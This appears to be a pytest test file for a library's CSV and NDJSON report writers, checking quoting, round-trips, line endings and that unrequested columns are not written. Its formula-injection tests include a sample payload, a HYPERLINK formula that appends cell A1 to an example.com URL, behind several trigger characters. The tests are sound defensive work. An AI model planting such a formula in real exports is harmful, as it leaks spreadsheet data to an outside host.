"""The formats of reports, read back by the standard library's parsers."""

import csv
import io
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lamina.reports.formats import WRITERS, Format

COLUMNS = ("name", "age", "metadata")
TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
ROWS = st.lists(
    st.fixed_dictionaries(
        {
            "name": TEXT,
            "age": st.none() | st.integers(0, 120),
            "metadata": st.dictionaries(TEXT, TEXT | st.booleans() | st.none(), max_size=3),
        }
    ),
    max_size=5,
)


def written(wanted: Format, rows: list[dict[str, Any]]) -> str:
    writer = WRITERS[wanted]
    return (writer.head(COLUMNS) + writer.lines(COLUMNS, rows)).decode()


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_csv_has_a_header_crlf_and_quotes_around_every_cell() -> None:
    ada: dict[str, Any] = {"name": 'Ada "A", Countess', "age": 36, "metadata": {"a": [1, None]}}
    rows = [ada, dict.fromkeys(COLUMNS)]
    assert written(Format.CSV, rows) == (
        '"name","age","metadata"\r\n"Ada ""A"", Countess","36","{""a"":[1,null]}"\r\n"","",""\r\n'
    )


def test_csv_of_nobody_is_its_header() -> None:
    assert written(Format.CSV, []) == '"name","age","metadata"\r\n'


@given(ROWS)
def test_csv_reads_back_as_it_was(rows: list[dict[str, Any]]) -> None:
    found = read_csv(written(Format.CSV, rows))
    assert len(found) == len(rows)
    for row, cells in zip(rows, found, strict=True):
        assert cells["name"].replace("'", "") == row["name"].replace("'", "")
        if not set("=+-@＝＋－＠\t\r\n") & set(row["name"]):
            assert cells["name"] == row["name"]
        assert cells["age"] == ("" if row["age"] is None else str(row["age"]))
        assert json.loads(cells["metadata"]) == row["metadata"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_spreadsheet_runs_what_somebody_calls_himself(start: str) -> None:
    name = f'{start}HYPERLINK("https://example.com?"&A1)'
    (cells,) = read_csv(written(Format.CSV, [{"name": name, "age": 1, "metadata": {}}]))
    assert cells["name"] == f"'{name}"


DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
TRICKS = st.text(st.sampled_from("=+-@＝＠;,|\t\n\r \u00a0\u200b\ufeff\"'ax"), max_size=12)


@given(TRICKS, TRICKS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_spreadsheet_runs_anything_whatever_it_separates_cells_by(separator: str, name: str, inner: str) -> None:
    text = written(Format.CSV, [{"name": name, "age": None, "metadata": {name: inner, "x": [inner]}}] * 2)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    assert not [cell for row in rows for cell in row if cell.lstrip('" \t\r\n\u00a0\u200b\ufeff').startswith(DANGEROUS)]
    if separator != ",":
        # Nor does one that knows no quotes at all.
        pieces = re.split(rf"[{re.escape(separator)}\r\n]", text)
        assert not [each for each in pieces if each.lstrip('" \t\u00a0\u200b\ufeff').startswith(DANGEROUS)]


@pytest.mark.parametrize("blank", [" ", "  ", "\u00a0", "\u3000", "\u200b", "\ufeff", '"'])
def test_a_formula_behind_a_blank_is_one_too(blank: str) -> None:
    (cells,) = read_csv(written(Format.CSV, [{"name": f"{blank}=1+1", "age": 1, "metadata": {}}]))
    assert cells["name"] == f"'{blank}=1+1"


@pytest.mark.parametrize("end", ["\x85", "\u2028", "\u2029"])
def test_no_row_of_ndjson_ends_before_its_line(end: str) -> None:
    row = {"name": f"a{end}b", "age": 1, "metadata": {end: end}}
    text = written(Format.NDJSON, [row, row])
    assert [json.loads(line) for line in text.splitlines()] == [row, row]


@given(ROWS)
def test_ndjson_is_a_line_of_json_for_each_row(rows: list[dict[str, Any]]) -> None:
    text = written(Format.NDJSON, rows)
    assert [json.loads(line) for line in text.split("\n")[:-1]] == rows
    assert text.count("\n") == len(rows)


def test_a_column_that_was_not_asked_for_is_not_written() -> None:
    row = {"name": "Ada", "age": 36, "metadata": {}, "password_hash": "x"}
    for wanted in Format:
        assert "password" not in written(wanted, [row])
